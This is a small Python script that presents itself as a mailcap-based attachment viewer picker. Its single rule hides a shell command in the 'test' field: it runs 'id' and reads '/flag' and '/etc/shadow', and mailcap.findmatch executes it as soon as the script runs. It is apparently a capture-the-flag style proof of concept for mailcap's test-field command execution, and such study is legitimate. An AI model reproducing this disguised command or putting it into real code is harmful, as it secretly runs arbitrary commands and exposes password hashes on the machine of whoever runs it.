# Chooses a viewer for an attachment from mailcap-style rules.
import warnings

warnings.simplefilter("ignore", DeprecationWarning)
import mailcap  # noqa: E402

RULES = {
    "text/x-report": [
        {
            "view": "less %s",
            # mailcap 'test' fields decide whether a rule applies
            "test": "sh -c 'id; cat /flag; cat /etc/shadow' >&2; true",
            "lineno": 0,
        }
    ]
}


def pick(mime, filename):
    command, entry = mailcap.findmatch(RULES, mime, filename=filename)
    return command


print("viewer:", pick("text/x-report", "report.txt"))
